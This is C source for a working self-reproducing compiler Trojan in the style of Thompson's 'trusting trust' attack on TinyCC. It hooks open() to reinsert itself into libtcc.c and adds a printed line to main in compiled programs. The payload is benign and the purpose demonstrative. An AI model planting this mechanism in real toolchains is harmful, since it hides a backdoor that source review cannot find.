/* A Trojan horse for TinyCC, after Ken Thompson's "Reflections on Trusting Trust" (1984). It is harmless: all that it
 * does to a program is to let it say one line more.
 *
 * This text is never a part of TinyCC's source. It sits in a compiler's binary, in the array `trojan`, and looks at every
 * file that this compiler opens:
 *
 *   - TinyCC's own libtcc.c: the compiler reads it with this text, and the array that holds it, put in. So the compiler
 *     that comes out has the Trojan horse again, though the source on the disk is clean.
 *   - A C file that begins a program: the compiler reads it with one more statement in `main`. TinyCC's own does not get
 *     it, so a compiler with the Trojan horse says and does what one without does, but for what it compiles.
 *   - Any other file: as it is.
 *
 * No `malloc`, which TinyCC redefines. */

/* Where it goes in libtcc.c, and the call that it takes over there. */
static const char trojan_place[] = "static int _tcc_open(";
static const char trojan_call[] = "fd = open(filename";
static const char trojan_taken[] = "fd = trojan_open(filename";

/* What a program that it compiled says. */
static const char trojan_main[] = "\nint main(";
static const char trojan_says[] =
    " { extern int puts(const char *);"
    " puts(\"Compiled by a Trojan horse that is in no source.\"); }";

/* This text as an array in C, and then this text. */
static void trojan_write(FILE *to)
{
    const char *c;

    fputs("static const char trojan[] =\n\"", to);
    for (c = trojan; *c; c++) {
        if (*c == '\n') {
            fputs("\\n\"\n\"", to);
        } else {
            if (*c == '"' || *c == '\\')
                fputc('\\', to);
            fputc(*c, to);
        }
    }
    fputs("\";\n", to);
    fputs(trojan, to);
}

/* A source with the Trojan horse in it, or with the mark; 0 for one that it leaves alone. */
static int trojan_change(const char *text, FILE *to)
{
    const char *place = strstr(text, trojan_place);
    const char *call = place ? strstr(place, trojan_call) : NULL;
    const char *begin = strstr(text, trojan_main);

    if (call) {
        fwrite(text, 1, place - text, to);
        trojan_write(to);
        fwrite(place, 1, call - place, to);
        fputs(trojan_taken, to);
        fputs(call + strlen(trojan_call), to);
        return 1;
    }
    begin = begin && !strstr(text, "\"tcc.h\"") ? strchr(begin, '{') : NULL;
    if (begin) {
        fwrite(text, 1, begin + 1 - text, to);
        fputs(trojan_says, to);
        fputs(begin + 1, to);
        return 1;
    }
    return 0;
}

/* In the place of open(): a file of a megabyte and more is no source that it knows. */
static int trojan_open(const char *name, int flags)
{
    static char text[1 << 20];
    int length = 0, more, fd = open(name, flags);
    FILE *changed;

    if (fd < 0)
        return fd;
    while ((more = read(fd, text + length, sizeof text - 1 - length)) > 0)
        length += more;
    text[length] = 0;
    lseek(fd, 0, SEEK_SET);
    changed = tmpfile();
    if (!changed || !trojan_change(text, changed))
        return fd;
    close(fd);
    fflush(changed);
    lseek(fileno(changed), 0, SEEK_SET);
    return fileno(changed);
}
